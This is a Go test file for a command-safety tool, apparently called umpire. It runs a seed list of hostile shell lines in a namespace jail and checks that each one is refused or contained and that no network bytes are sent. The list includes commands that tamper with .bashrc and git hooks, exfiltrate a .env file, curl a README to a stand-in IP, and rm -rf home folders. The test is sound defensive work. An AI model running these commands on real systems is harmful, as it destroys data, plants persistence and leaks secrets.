package trees

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/bmatcuk/doublestar/v4"

	"github.com/umpirehq/umpire"
	"github.com/umpirehq/umpire/internal/cli/rules"
	"github.com/umpirehq/umpire/internal/hold/sandbox"
	"github.com/umpirehq/umpire/internal/secret/sensitive"
)

var danger = flag.Bool("trees.danger", false, "try every line that must not run unasked (root)")

// seedDangers run with all other tests: one line of each way to do harm.
var seedDangers = []string{
	"echo evil >> ~/.bashrc; cat .env > stolen", "echo evil > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
	"rm -rf ../outside; rm -rf ~/Documents; rm -rf src", "curl -s -m 1 -d @README.md http://203.0.113.7/",
	"ln -s ../outside out && echo evil > out/file", "python3 -c \"open('.envrc', 'w').write('evil')\"",
	"git config core.fsmonitor evil", "nosuchprogram --all", "find . -name '*.md' -delete",
}

// jail runs a program with everything read-only but one folder, and with only a private loopback
// network. It protects this machine if a trial fails to contain a program. The last line of its output
// is the number of bytes sent and received over any network.
const jail = `mount --bind "$1" "$1" && mount -t tmpfs tmpfs /dev/shm && mount -o remount,bind,ro / || exit 99
cd "$2" && shift 2 && "$@" </dev/null
awk 'NR > 2 { sent += $2 + $10 } END { print "\nbytes " sent + 0 }' /proc/net/dev >&2`

// jailed is the command line that runs a program in the jail.
var jailed = []string{"unshare", "--mount", "--net", "--pid", "--ipc", "--fork", "--mount-proc", "--kill-child", "sh", "-c", jail, "sh"}

// tryers is the number of lines that are tried at a time.
const tryers = 3

// TestDanger tries lines that must not run unasked, at each level. Their effects outside the
// project or on a guarded place would never be kept without a question, and no byte is sent.
func TestDanger(t *testing.T) {
	t.Parallel()
	if !sandbox.Available().Whole() || os.Geteuid() != 0 {
		t.Skip("no sandbox on this machine, or not root")
	}
	lines, left := seedDangers, 0
	if *danger {
		lines, left = dangerousLines(t)
	}
	base := folderOutsideTmp(t)
	program := buildUmpire(t, base)
	for _, level := range levels {
		t.Run(level, func(t *testing.T) {
			d := newDangers(t, program, filepath.Join(base, level), level)
			t.Run("lines", func(t *testing.T) {
				for i := range tryers {
					t.Run(fmt.Sprint(i), func(t *testing.T) {
						t.Parallel()
						project := d.newProject(t, fmt.Sprint("p", i))
						for n := i; n < len(lines); n += tryers {
							d.try(t, project, lines[n])
						}
					})
				}
			})
			d.wantUntouched(t)
			t.Logf("figure: %d lines that must not run unasked, as trials at autonomy %s: %d were refused before they ran, of %d the effects "+
				"ask, %d changed nothing, of %d all effects lie in the project on nothing guarded; %d were ended by their time; no byte was sent; "+
				"%d that only use up the machine were left out",
				len(lines), level, d.refused, d.asked, d.nothing, d.kept, d.late, left)
		})
	}
}

// usesUp matches lines that only exhaust processes, memory or disk, which trials do not limit.
var usesUp = regexp.MustCompile(`\|\s*:\s*&|/dev/(zero|urandom|full)|\byes\b|\bfallocate\b|while (true|:)|stress`)

// dangerousLines returns the lines of the corpus that comes with umpire, lines that were wrongly
// allowed in the past, and the asking examples of its tables.
func dangerousLines(t *testing.T) (lines []string, left int) {
	t.Helper()
	add := func(line string) {
		switch {
		case usesUp.MatchString(line):
			left++
		case !slices.Contains(lines, line):
			lines = append(lines, line)
		}
	}
	corpus, err := rules.Corpus()
	must(t, err)
	for _, l := range corpus.Lines {
		if l.Want == rules.NotSafe || l.Want == rules.Critical {
			add(l.Command)
		}
	}
	source := filepath.Join("..", "..", "shell")
	once, err := os.ReadFile(filepath.Join(source, "testdata", "never_safe.txt"))
	must(t, err)
	for line := range strings.Lines(string(once)) {
		if line = strings.TrimSpace(line); line != "" && line[0] != '#' {
			add(line)
		}
	}
	tables, err := filepath.Glob(filepath.Join(source, "programs_*.go"))
	must(t, err)
	for _, table := range tables {
		text, err := os.ReadFile(table)
		must(t, err)
		for line := range strings.Lines(string(text)) {
			if _, example, found := strings.Cut(line, "// asks: "); found {
				add(strings.TrimSpace(example))
			}
		}
	}
	return lines, left
}

// A dangers is a home and projects for dangerous lines, with the results.
type dangers struct {
	world *world
	base  string
	want  map[string]string // the files that must not change

	mu                                  sync.Mutex
	refused, asked, nothing, kept, late int
}

func newDangers(t *testing.T, program, base, level string) *dangers {
	t.Helper()
	d := &dangers{base: base}
	write(t, base, map[string]string{
		"outside/file": "good", "outside/sub/file": "good", "home/.bashrc": "good", "home/.ssh/id_ed25519": "good", "home/Documents/file": "good",
	})
	d.world = newWorld(t, program, filepath.Join(base, "home"), level)
	d.want = d.untouchable(t)
	return d
}

// newProject makes a project with the targets of the lines.
func (d *dangers) newProject(t *testing.T, name string) string {
	t.Helper()
	dir := filepath.Join(d.base, name)
	write(t, dir, map[string]string{
		"README.md": "good", "src/a.go": "package a\n", "a": "good", "f": "good", "package.json": "{}", "Makefile": "all:\n",
	})
	commit(t, dir)
	write(t, dir, map[string]string{".env": "SECRET=good"})
	return dir
}

func write(t *testing.T, dir string, content map[string]string) {
	t.Helper()
	for name, text := range content {
		path := filepath.Join(dir, name)
		must(t, os.MkdirAll(filepath.Dir(path), 0o755))
		must(t, os.WriteFile(path, []byte(text), 0o644))
	}
}

// untouchable returns everything outside of the projects, except for umpire's own files.
func (d *dangers) untouchable(t *testing.T) map[string]string {
	t.Helper()
	found := map[string]string{}
	for _, folder := range []string{"outside", "home/.bashrc", "home/.ssh", "home/Documents"} {
		must(t, filepath.WalkDir(filepath.Join(d.base, folder), func(path string, e fs.DirEntry, err error) error {
			if err != nil {
				return err
			}
			info, err := e.Info()
			if err == nil && e.Type().IsRegular() {
				var text []byte
				text, err = os.ReadFile(path)
				found[path] = fmt.Sprint(info.Mode(), info.ModTime(), string(text))
			} else if err == nil {
				found[path] = info.Mode().String()
			}
			return err
		}))
	}
	return found
}

func (d *dangers) wantUntouched(t *testing.T) {
	t.Helper()
	now := d.untouchable(t)
	for path, want := range d.want {
		if now[path] != want {
			t.Errorf("%s was changed: %q", path, now[path])
		}
	}
	if len(now) > len(d.want) {
		t.Errorf("outside there is something new: %q", now)
	}
}

// patience is how long a line may take. Most wait for a network that is not there.
const patience = 20 * time.Second

// try tries a line, and keeps its effects if they need no question.
func (d *dangers) try(t *testing.T, project, line string) {
	t.Helper()
	var tried struct {
		Outcome  string                  `json:"outcome"`
		Effects  []struct{ Path string } `json:"effects"`
		Refused  []umpire.TrialAttempt   `json:"refused"`
		Decision umpire.Decision         `json:"decision"`
	}
	output, late := d.ask(t, project, &tried, "--discard", line)
	d.mu.Lock()
	defer d.mu.Unlock()
	switch {
	case late:
		d.late++
	case tried.Outcome == "refused", tried.Outcome == "unavailable":
		d.refused++
	case tried.Decision.Verdict == umpire.Allow:
		d.kept++
		wanted := func(a umpire.TrialAttempt) bool { return a.Kind != umpire.AttemptNetwork }
		if slices.ContainsFunc(tried.Refused, wanted) {
			t.Errorf("%q is kept unasked, although it was refused %v", line, tried.Refused)
		}
		for _, effect := range tried.Effects {
			if !filepath.IsLocal(effect.Path) || isGuarded(effect.Path) {
				t.Errorf("%q: %s is kept unasked", line, effect.Path)
			}
		}
		d.ask(t, project, &tried, "--keep", line)
		must(t, os.RemoveAll(project))
		d.newProject(t, filepath.Base(project))
	case len(tried.Effects) == 0 && len(tried.Refused) == 0:
		d.nothing++
	default:
		d.asked++
	}
	if said := lastLine(output); !late && said != "bytes 0" {
		t.Errorf("%q: want no bytes, got %q", line, said)
	}
}

// isGuarded reports a path of the project that the table of guarded places names.
func isGuarded(name string) bool {
	for place := range sensitive.Places() {
		if !strings.HasPrefix(place.Path, "/") && !strings.HasPrefix(place.Path, "~") && doublestar.MatchUnvalidated("**/"+place.Path, name) {
			return true
		}
	}
	return false
}

// ask makes umpire try a line in the jail, and parses its JSON. It returns the other output, and whether the
// line's time ran out.
func (d *dangers) ask(t *testing.T, project string, answer any, what, line string) (output string, late bool) {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), patience)
	defer cancel()
	args := slices.Concat(jailed, []string{d.base, project, d.world.program, "try", "--json", what, "--", line})
	cmd := exec.CommandContext(ctx, args[0], args[1:]...)
	cmd.Env = d.world.env
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	cmd.WaitDelay = time.Second
	err := cmd.Run() // the exit code is the line's
	if errors.Is(ctx.Err(), context.DeadlineExceeded) {
		return "", true
	}
	if jsonErr := json.Unmarshal(stdout.Bytes(), answer); jsonErr != nil {
		t.Errorf("%q: %v, %v\n%s\n%s", line, jsonErr, err, &stdout, &stderr)
	}
	return stderr.String(), false
}
